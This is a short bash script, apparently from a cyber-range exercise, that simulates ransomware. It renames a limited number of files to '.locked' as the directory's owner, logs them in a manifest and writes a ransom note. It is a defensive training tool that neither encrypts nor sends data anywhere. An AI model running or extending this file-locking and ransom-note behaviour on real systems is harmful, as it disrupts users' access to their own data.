#!/bin/bash
# The ransomware artefact: renames up to a limit of files under a directory
# to `*.locked` (as the directory's owner), lists them NUL-separated in a
# manifest, drops a ransom note; prints the count, then up to 50 files.
# Runs inside a range container (`bash -c`, after run-as-owner.sh).
# Arguments: $1 directory, $2 ransom note path, $3 manifest path, $4 most
# files to rename, $5 ransom note text.
set -e
directory=$1 note=$2 manifest=$3 limit=$4 note_text=$5
lock() {
  local count=0 file
  [ -d "$1" ] || { echo "directory $1 does not exist" >&2; return 3; }
  while IFS= read -r -d '' file; do
    [ "$count" -ge "$2" ] && break
    mv -- "$file" "$file.locked" && printf '%s\0' "$file" && count=$((count + 1))
  done < <(find "$1" -type f ! -name '*.locked' ! -path "$3" -print0)
  printf '%s' "$4" > "$3"
}
mkdir -p -- "$(dirname -- "$manifest")"
run_as_owner_of "$directory" bash -c "$(declare -f lock); lock \"\$@\"" lock "$directory" "$limit" "$note" "$note_text" >> "$manifest"
tr '\0' '\n' < "$manifest" | grep -c . || true
tr '\0' '\n' < "$manifest" | head -n 50
